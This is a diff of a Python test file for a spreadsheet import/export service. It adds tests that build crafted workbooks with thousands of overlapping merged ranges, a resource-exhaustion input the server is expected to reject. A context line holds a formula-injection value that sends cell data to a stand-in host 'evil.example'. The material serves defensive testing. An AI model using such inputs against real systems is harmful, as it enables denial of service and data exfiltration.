@@ -63,6 +63,61 @@ def test_a_sheet_as_wide_as_a_real_ledger_still_imports(client: TestClient, sess
     assert answer.status_code != 422 or answer.json()["code"] != "sheet_too_large", answer.text
 
 
+def _merged(ranges: list[str], stray: str | None = None) -> bytes:
+    """Return a small workbook with the parcel header whose sheet merges RANGES (overlapping: Excel would not)."""
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "台账"
+    ws.append([PARCELS.field(PARCELS.key_field).zh, "名称"])
+    if stray:
+        ws[stray] = "x"
+    src = zipfile.ZipFile(io.BytesIO(_bytes(wb)))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                cells = "".join(f'<mergeCell ref="{r}"/>' for r in ranges)
+                merged = f'</sheetData><mergeCells count="{len(ranges)}">{cells}</mergeCells>'
+                data = data.replace(b"</sheetData>", merged.encode())
+            dst.writestr(item, data)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("ranges", "stray"),
+    [
+        (["A3:XFD15"] * 3000, "XFD15"),  # 5 KB: 3000 × 15 × 16384 cells filled one by one, 65 s of the server's CPU
+        (["A1:B1"] * 20_000, None),  # the reader keeps every range: a few MB of them would be gigabytes
+    ],
+)
+def test_a_workbook_with_crafted_merged_ranges_is_refused_at_once(
+    client: TestClient, ranges: list[str], stray: str | None
+) -> None:
+    body = _merged(ranges, stray)
+    assert len(body) < 20_000
+    answer = _upload(client, body)
+    assert answer.status_code == 400, answer.text
+    assert answer.json()["code"] == "sheet_too_many_merged"
+
+
+def test_a_header_merged_over_two_rows_still_reads(client: TestClient, session: Session) -> None:
+    _store(session, _parcel(1))
+    key = PARCELS.field(PARCELS.key_field).zh
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["地块台账", None, None])
+    ws.append([key, "名称", None])
+    ws.append([None, None, None])
+    ws.append([_parcel(1)["properties"][PARCELS.key_field], "新名称", None])
+    ws.merge_cells("A1:C1")
+    ws.merge_cells("A2:A3")
+    ws.merge_cells("B2:B3")
+    answer = _upload(client, _bytes(wb), import_mode="update")
+    assert answer.status_code == 201, answer.text
+    assert answer.json()["report"]["summary"]["changed"] == 1
+
+
 def test_exported_text_starting_with_equals_stays_text_not_a_formula(client: TestClient, session: Session) -> None:
     hostile = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
     _store(session, _parcel(1, name=hostile, address="=1+1"))
